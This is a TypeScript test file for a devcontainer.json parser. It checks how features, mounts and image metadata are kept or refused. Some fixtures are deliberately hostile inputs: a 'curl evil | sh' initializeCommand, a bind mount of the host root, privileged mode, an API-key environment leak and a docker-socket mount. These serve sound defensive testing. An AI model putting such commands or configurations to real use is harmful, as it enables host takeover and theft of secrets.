// Features and mounts in devcontainer.json (pure): what is kept, what the host generates for the
// devcontainer CLI, what the image's metadata adds, and the refusals.
import { describe, expect, it } from "vitest";
import { devcontainerHash, parseDevcontainer, defaultSpec, type DevcontainerOptions } from "../../src/containers/devcontainer.js";
import { applyFeatureMetadata, parseMetadataLabel } from "../../src/containers/feature-metadata.js";
import { failedFeature, generatedConfig } from "../../src/containers/feature-image.js";

const OPTIONS: DevcontainerOptions = { repoName: "widgets", defaultImage: "default:img", workspaceDir: "/srv/ws/widgets" };
const parse = (json: string, file = ".devcontainer/devcontainer.json") => parseDevcontainer(json, file, OPTIONS);

describe("features in devcontainer.json", () => {
  it("keeps local, OCI and tarball features with their options, in order", () => {
    const { spec, notes } = parse(
      JSON.stringify({
        image: "base:1",
        features: {
          "ghcr.io/devcontainers/features/node:1": { version: "20", nodeGypDependencies: false },
          "./marker": { greeting: "hi", count: 2 },
          "https://example.com/devcontainer-feature-go.tgz": {},
          "ghcr.io/devcontainers/features/git:1": "latest",
          "ghcr.io/devcontainers/features/off:1": false,
        },
        overrideFeatureInstallOrder: ["./marker", "ghcr.io/devcontainers/features/node"],
      }),
    );
    expect(notes).toEqual([]);
    expect(spec.features).toEqual({
      entries: [
        { ref: "ghcr.io/devcontainers/features/node:1", source: { kind: "published" }, value: { version: "20", nodeGypDependencies: false } },
        { ref: "./marker", source: { kind: "local", path: ".devcontainer/marker" }, value: { greeting: "hi", count: 2 } },
        { ref: "https://example.com/devcontainer-feature-go.tgz", source: { kind: "tarball" }, value: {} },
        { ref: "ghcr.io/devcontainers/features/git:1", source: { kind: "published" }, value: "latest" },
      ],
      installOrder: ["./marker", "ghcr.io/devcontainers/features/node"],
    });
  });

  it("leaves the spec and its hash as they were for a file without features or mounts", () => {
    const { spec } = parse(`{"image":"default:img"}`);
    expect("features" in spec || "volumes" in spec).toBe(false);
    expect(devcontainerHash({ ...spec, source: null })).toBe(devcontainerHash(defaultSpec(OPTIONS)));
  });

  it("refuses a local feature outside .devcontainer/ and paths that leave the repository", () => {
    expect(() => parse(`{"image":"x","features":{"../../etc":{}}}`)).toThrow(/must be a folder inside \.devcontainer\//);
    expect(() => parse(`{"image":"x","features":{"./f":{}}}`, ".devcontainer.json")).toThrow(/must be a folder inside \.devcontainer\//);
    expect(() => parse(`{"image":"x","features":{"/abs/f":{}}}`)).toThrow(/must be a relative path/);
    expect(() => parse(`{"image":"x","features":{"./f":{"o":{"nested":1}}}}`)).toThrow(/option `o` must be a string/);
  });

  it("takes a root .devcontainer.json's local feature from .devcontainer/", () => {
    const { spec } = parse(`{"image":"x","features":{"./.devcontainer/f":{}}}`, ".devcontainer.json");
    expect(spec.features?.entries[0]?.source).toEqual({ kind: "local", path: ".devcontainer/f" });
  });
});

describe("the devcontainer.json the host generates for the CLI", () => {
  it("holds only the base image, the features with their options and the install order", () => {
    const { spec } = parse(
      JSON.stringify({
        image: "base:1",
        initializeCommand: "curl evil | sh",
        mounts: ["source=/,target=/host,type=bind"],
        privileged: true,
        containerEnv: { SECRET: "${localEnv:CLAUDE_API_KEY}" },
        features: { "./.devcontainer/marker": { greeting: "hi" }, "ghcr.io/x/y:1": {} },
        overrideFeatureInstallOrder: ["./.devcontainer/marker", "ghcr.io/x/y"],
      }),
      ".devcontainer.json",
    );
    expect(generatedConfig(spec.features!, "sha256:abc")).toEqual({
      image: "sha256:abc",
      // The staged config sits in .devcontainer/, so local refs are rewritten relative to it.
      features: { "./marker": { greeting: "hi" }, "ghcr.io/x/y:1": {} },
      overrideFeatureInstallOrder: ["./marker", "ghcr.io/x/y"],
    });
  });
});

describe("mounts", () => {
  const volumes = (mounts: unknown[]) => parse(JSON.stringify({ image: "x", mounts }));

  it("keeps named volumes, in string and object form, with variables substituted", () => {
    const { spec, notes } = volumes([
      "source=${localWorkspaceFolderBasename}-node_modules,target=${containerWorkspaceFolder}/node_modules,type=volume",
      { source: "cache", target: "/root/.cache", type: "volume" },
      "src=ro-data,dst=/data,readonly",
    ]);
    expect(notes).toEqual([]);
    expect(spec.volumes).toEqual([
      { source: "widgets-node_modules", target: "/workspaces/widgets/node_modules", readOnly: false },
      { source: "cache", target: "/root/.cache", readOnly: false },
      { source: "ro-data", target: "/data", readOnly: true },
    ]);
  });

  const refused: Array<[string, unknown, RegExp]> = [
    ["a bind mount", "source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind", /host folders are never mounted/],
    ["a bind mount as an object", { source: "/home", target: "/h", type: "bind" }, /host folders are never mounted/],
    ["a host path as a volume's name", "source=/etc,target=/etc2,type=volume", /not a volume name/],
    ["volume-opt, which can bind a host path", "source=v,target=/v,type=volume,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/etc", /volume options \(volume-opt\)/],
    ["another volume driver", "source=v,target=/v,volume-driver=nfs", /volume options \(volume-driver\)/],
    ["a tmpfs", "target=/t,type=tmpfs", /only named volumes/],
    ["an anonymous volume", "target=/v,type=volume", /give it a name/],
    ["a volume over the workspace", "source=v,target=/workspaces", /would hide the workspace/],
    ["a relative target", "source=v,target=v", /absolute path/],
  ];
  for (const [name, mount, reason] of refused) {
    it(`refuses ${name}, saying why`, () => {
      const { spec, notes } = volumes([mount]);
      expect(spec.volumes).toBeUndefined();
      expect(notes).toHaveLength(1);
      expect(notes[0]).toMatch(/^mount `.*` not applied: /);
      expect(notes[0]).toMatch(reason);
    });
  }

  it("shows a refused mount as written, never with the server's workspace path substituted", () => {
    const { notes } = volumes(["source=${localWorkspaceFolder},target=/w2,type=bind"]);
    expect(notes[0]).toContain("source=${localWorkspaceFolder}");
    expect(notes[0]).not.toContain("/srv/ws");
  });
});

describe("the features' metadata on the image", () => {
  const spec = { ...defaultSpec(OPTIONS), postCreateCommand: { kind: "shell" as const, command: "npm ci" } };
  const label = JSON.stringify([
    { postStartCommand: "from-the-base-image" },
    { id: "./marker", postCreateCommand: "marker init # set up", privileged: true, capAdd: ["SYS_PTRACE"], mounts: [{ source: "/", target: "/host", type: "bind" }] },
    { id: "ghcr.io/x/y:1", onCreateCommand: ["y", "it's"], init: true, entrypoint: "/usr/local/share/y-init.sh" },
  ]);

  it("runs the features' lifecycle commands before the repository's, each stopping the rest on failure", () => {
    const { spec: next } = applyFeatureMetadata(spec, parseMetadataLabel(label));
    expect(next.postCreateCommand).toEqual({ kind: "shell", command: "(\nmarker init # set up\n) && (\nnpm ci\n)" });
    expect(next.onCreateCommand).toEqual({ kind: "argv", argv: ["y", "it's"] });
    // The base image's own entry (no id) is not a feature's.
    expect(next.postStartCommand).toBeNull();
  });

  it("grants none of privileged, capAdd, mounts, init or entrypoint, and says so", () => {
    const { notes } = applyFeatureMetadata(spec, parseMetadataLabel(label));
    expect(notes).toEqual([
      "feature `./marker` asks for `privileged`, not applied: containers never run privileged.",
      "feature `./marker` asks for `capAdd`, not applied: capabilities are never added.",
      "feature `./marker` asks for `mounts`, not applied: a feature's mounts are not applied.",
      "feature `ghcr.io/x/y:1` asks for `init`, not applied: containers always run with an init process.",
      "feature `ghcr.io/x/y:1` asks for `entrypoint`, not applied: the container's entrypoint is the app's own.",
    ]);
  });

  it("notes a feature's command it cannot put in sequence with the repository's object form", () => {
    const parallel = { ...spec, postCreateCommand: { kind: "parallel" as const, commands: { a: { kind: "shell" as const, command: "a" } } } };
    const { spec: next, notes } = applyFeatureMetadata(parallel, [{ id: "./marker", postCreateCommand: "marker init" }]);
    expect(next.postCreateCommand).toEqual(parallel.postCreateCommand);
    expect(notes).toEqual(["`postCreateCommand` of feature `./marker` not applied: commands in the object form run only on their own."]);
  });

  it("reads no entries from a missing or broken label", () => {
    expect(parseMetadataLabel(undefined)).toEqual([]);
    expect(parseMetadataLabel("{not json")).toEqual([]);
  });
});

describe("which feature a failed build names", () => {
  const ids = new Map([
    ["./marker", "marker"],
    ["ghcr.io/devcontainers/features/node:1", "node"],
  ]);

  it("the one whose install step was running", () => {
    const lines = [
      "* Processing feature: ./marker",
      "* Processing feature: ghcr.io/devcontainers/features/node:1",
      "Step 16/22 : RUN chmod -R 0755 /tmp/dev-container-features/marker_0 && cd /tmp/dev-container-features/marker_0 && chmod +x ./devcontainer-features-install.sh && ./devcontainer-features-install.sh",
      "ERROR: Feature \"Marker\" (Unknown) failed to install!",
    ];
    expect(failedFeature(lines, ids)).toEqual({ feature: "./marker", stage: "install" });
  });

  it("the one being fetched when no install step began", () => {
    const lines = ["* Processing feature: ghcr.io/devcontainers/features/node:1", "> resource: ghcr.io/devcontainers/features/node", "Error: getaddrinfo ENOTFOUND ghcr.io"];
    expect(failedFeature(lines, ids)).toEqual({ feature: "ghcr.io/devcontainers/features/node:1", stage: "fetch" });
  });

  it("none when the output names none", () => {
    expect(failedFeature(["docker: command not found"], ids)).toEqual({ feature: null, stage: "build" });
  });
});
